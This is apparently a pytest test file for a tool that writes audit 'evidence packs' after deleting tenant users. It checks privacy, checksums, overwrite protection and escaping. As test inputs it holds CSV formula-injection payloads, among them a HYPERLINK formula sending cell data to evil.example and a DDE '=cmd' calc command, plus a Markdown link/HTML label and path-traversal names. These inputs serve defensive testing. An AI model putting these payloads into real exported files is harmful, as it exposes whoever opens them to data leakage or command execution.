"""The evidence pack: every object accounted for, injection-safe, private, atomic, never clobbered."""

from __future__ import annotations

import csv
import hashlib
import json
import stat
from pathlib import Path
from typing import Any

import pytest

import services
from services.evidence.layout import COLUMNS, PACK_FILES, PackExists, default_pack_dir
from services.evidence.rows import outcomes_from_journal
from services.evidence.write import write_pack
from services.journal.writer import Journal
from services.models import UserRow
from services.paths import InvalidTenantId
from tests.support.tenant import TENANT, TENANT_ID

RUN = "20250301T101502.123Z-a1b2c3"
HOSTILE_LABELS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+46 8 123 45 67",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=cmd",
    "\r=cmd",
    "  =1+1",
    "＝1+1",
]


@pytest.fixture(autouse=True)
def xdg(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    return tmp_path


def row(i: int, result: str = "done", label: str | None = None, **extra: Any) -> dict[str, Any]:
    return {
        "time": f"2025-03-01T10:{i // 60:02d}:{i % 60:02d}.000Z",
        "step": 1,
        "action": "delete-user",
        "object_id": f"user-{i:04d}",
        "label": label if label is not None else f"user{i}@contosorante.se",
        "result": result,
        "attempts": 1,
        "http_status": 204 if result == "done" else 403,
        "code": "" if result == "done" else "Authorization_RequestDenied",
        "message": "" if result == "done" else "Insufficient privileges to complete the operation.",
        "request_id": f"req-{i}",
        **extra,
    }


def inventory() -> dict[str, Any]:
    admin = UserRow(
        id="11111111-1111-1111-1111-111111111111",
        upn="admin@contosorante.onmicrosoft.com",
        display_name="Admin",
        user_type="Member",
        account_enabled=True,
        synced=False,
        role_ids=("62e90394-69f5-4237-9190-012177145e10",),
    )
    return {"users": [admin], "subscriptions": [], "taken_at": "2025-03-01T09:59:00.000Z"}


def pack(out: Path, rows: list[dict[str, Any]], **kw: Any) -> Path:
    return write_pack(
        out,
        tenant=TENANT,
        inventory=kw.pop("inventory", inventory()),
        outcomes=rows,
        summary=kw.pop(
            "summary",
            {
                "started": "2025-03-01T10:00:00.000Z",
                "ended": "2025-03-01T10:05:00.000Z",
                "exit_code": 1,
                "kept": [
                    {
                        "upn": "admin@contosorante.onmicrosoft.com",
                        "display_name": "Admin",
                        "reason": "signed-in Global Administrator",
                    }
                ],
            },
        ),
        run_id=RUN,
        **kw,
    )


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_pack_accounts_for_every_object(tmp_path: Path) -> None:
    rows = [row(i) for i in range(250)] + [row(250, "failed"), row(251, "gone")]
    out = pack(default_pack_dir(TENANT_ID, RUN), rows)

    assert out == tmp_path / "state" / "closeout" / "tenants" / TENANT_ID / "evidence" / RUN
    assert sorted(p.name for p in out.iterdir()) == sorted(PACK_FILES)
    csv_rows = read_csv(out / "outcomes.csv")
    assert len(csv_rows) == len(rows)
    assert list(csv_rows[0]) == list(COLUMNS)
    assert [r["object_id"] for r in csv_rows] == [r["object_id"] for r in rows]
    assert csv_rows[250]["result"] == "failed"
    assert csv_rows[250]["http_status"] == "403"
    assert csv_rows[250]["request_id"] == "req-250"

    as_json = json.loads((out / "outcomes.json").read_text(encoding="utf-8"))
    assert len(as_json) == len(rows)
    assert as_json[0] == {col: rows[0][col] for col in COLUMNS}

    summary = json.loads((out / "summary.json").read_text(encoding="utf-8"))
    assert summary["objects"] == 252
    assert summary["run_id"] == RUN
    assert summary["tool_version"] == services.__version__
    assert summary["tenant"]["id"] == TENANT_ID
    counts = {(c["action"], c["result"]): c["count"] for c in summary["counts"]}
    assert counts == {("delete-user", "done"): 250, ("delete-user", "failed"): 1,
                      ("delete-user", "gone"): 1}  # fmt: skip
    assert [f["object_id"] for f in summary["failures"]] == ["user-0250"]

    before = json.loads((out / "inventory-before.json").read_text(encoding="utf-8"))
    assert before["users"][0]["upn"] == "admin@contosorante.onmicrosoft.com"


def test_pack_is_private(tmp_path: Path) -> None:
    out = pack(default_pack_dir(TENANT_ID, RUN), [row(0)])
    assert mode(out) == 0o700
    assert mode(out.parent) == 0o700
    for name in PACK_FILES:
        assert mode(out / name) == 0o600, name


def test_csv_cells_cannot_become_formulas(tmp_path: Path) -> None:
    rows = [row(i, label=label) for i, label in enumerate(HOSTILE_LABELS)]
    rows.append(row(99, label="Anna Öberg", message="=cmd|' /C calc'!A0", result="failed"))
    out = pack(tmp_path / "pack", rows)
    labels = [r["label"] for r in read_csv(out / "outcomes.csv")]
    assert labels[: len(HOSTILE_LABELS)] == ["'" + label for label in HOSTILE_LABELS]
    assert labels[-1] == "Anna Öberg"
    assert read_csv(out / "outcomes.csv")[-1]["message"] == "'=cmd|' /C calc'!A0"
    # The JSON copy is data, not a spreadsheet: it keeps the values exactly.
    as_json = json.loads((out / "outcomes.json").read_text(encoding="utf-8"))
    assert as_json[0]["label"] == HOSTILE_LABELS[0]


def test_summary_md_names_tenant_run_failures_and_kept_accounts(tmp_path: Path) -> None:
    rows = [
        row(0),
        row(1, "failed", label="Bo [click](http://evil.example) <b>x</b>"),
        row(2, "failed", code="Request_BadRequest", message="Synced user | cannot be deleted"),
    ]
    md = (pack(tmp_path / "pack", rows) / "summary.md").read_text(encoding="utf-8")
    for expected in (
        "Contoso Ränteservice AB",
        TENANT_ID,
        "contosorante.onmicrosoft.com",
        "admin@contosorante.onmicrosoft.com",
        RUN,
        f"closeout {services.__version__}",
        "2025-03-01T10:00:00.000Z",
        "2025-03-01T10:05:00.000Z",
        "Failures (2)",
        "Authorization\\_RequestDenied",
        "Insufficient privileges to complete the operation.",
        "Request\\_BadRequest",
        "Synced user \\| cannot be deleted",
        "signed-in Global Administrator",
    ):
        assert expected in md, expected
    # Attacker-chosen names must not turn into links or HTML in a Markdown viewer.
    assert "[click](http" not in md
    assert "<b>" not in md
    assert "\\[click\\]" in md


def test_summary_md_says_when_nothing_failed(tmp_path: Path) -> None:
    summary = {"keep": ["admin@contosorante.onmicrosoft.com"]}  # the engine's spelling
    out = pack(tmp_path / "pack", [row(0), row(61)], summary=summary)
    md = (out / "summary.md").read_text(encoding="utf-8")
    assert "Failures (0)" in md
    assert "None." in md
    assert "- admin@contosorante.onmicrosoft.com" in md
    # Without explicit times the first and last outcomes bound the run.
    assert "| Started | 2025-03-01T10:00:00.000Z |" in md
    assert "| Ended | 2025-03-01T10:01:01.000Z |" in md


def test_checksums_match_the_files(tmp_path: Path) -> None:
    out = pack(tmp_path / "pack", [row(0), row(1, "failed")])
    listed = {}
    for line in (out / "SHA256SUMS").read_text().splitlines():
        digest, name = line.split("  ", 1)
        listed[name] = digest
    assert set(listed) == set(PACK_FILES) - {"SHA256SUMS"}
    for name, digest in listed.items():
        assert hashlib.sha256((out / name).read_bytes()).hexdigest() == digest


def test_an_existing_pack_is_never_overwritten(tmp_path: Path) -> None:
    out = pack(tmp_path / "pack", [row(0)])
    original = (out / "outcomes.csv").read_bytes()
    with pytest.raises(PackExists) as info:
        pack(out, [row(0), row(1)])
    assert str(out) in info.value.message
    assert (out / "outcomes.csv").read_bytes() == original
    assert sorted(p.name for p in tmp_path.iterdir()) == ["pack"]  # no temp dirs left

    pack(out, [row(0), row(1)], replace=True)
    assert len(read_csv(out / "outcomes.csv")) == 2
    assert sorted(p.name for p in tmp_path.iterdir()) == ["pack"]


def test_replace_refuses_a_folder_that_is_not_a_pack(tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    (home / "thesis.docx").write_text("years of work")
    with pytest.raises(PackExists):
        pack(home, [row(0)], replace=True)
    assert (home / "thesis.docx").read_text() == "years of work"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["home"]


def test_tokens_are_refused_and_nothing_is_written(tmp_path: Path) -> None:
    jwt = "eyJ0eXAiOiJKV1QifQ.eyJzdWIiOiJhZG1pbiJ9.c2lnbmF0dXJl"
    with pytest.raises(ValueError, match="token") as info:
        pack(tmp_path / "pack", [row(0)], inventory={"leak": f"Bearer {jwt}"})
    assert jwt not in str(info.value)
    assert list(tmp_path.iterdir()) == []


def test_outcomes_from_journal_maps_records_to_rows(tmp_path: Path) -> None:
    with Journal(TENANT_ID) as j:
        run = j.start_run("run")
        j.write_intents([{"step": 1, "action": "delete-user", "object": "u1", "label": "a@x.se"}])
        j.write_outcomes(
            [
                {
                    "step": 1,
                    "action": "delete-user",
                    "object": "u1",
                    "label": "a@x.se",
                    "result": "gone",
                    "status": 404,
                    "code": "Request_ResourceNotFound",
                    "request_id": "r-1",
                }
            ]
        )
        j.end_run(run, 0)
        other = j.start_run("run")
        j.write_outcomes([{"step": 1, "action": "delete-user", "object": "u2", "result": "done"}])
        records = j.records()

    rows = outcomes_from_journal(records, run_id=run)
    assert len(rows) == 1
    (r,) = rows
    assert set(r) == set(COLUMNS)
    assert r["object_id"] == "u1"
    assert r["http_status"] == 404
    assert r["result"] == "gone"
    assert r["time"] == records[2]["t"]
    assert len(outcomes_from_journal(records)) == 2
    assert outcomes_from_journal(records, run_id=other)[0]["object_id"] == "u2"

    out = pack(tmp_path / "pack", rows)
    assert read_csv(out / "outcomes.csv")[0]["code"] == "Request_ResourceNotFound"


def test_pack_dir_names_are_validated() -> None:
    with pytest.raises(InvalidTenantId):
        default_pack_dir("../../other", RUN)
    with pytest.raises(ValueError):
        default_pack_dir(TENANT_ID, "../escape")
    with pytest.raises(ValueError):
        default_pack_dir(TENANT_ID, "a/b")
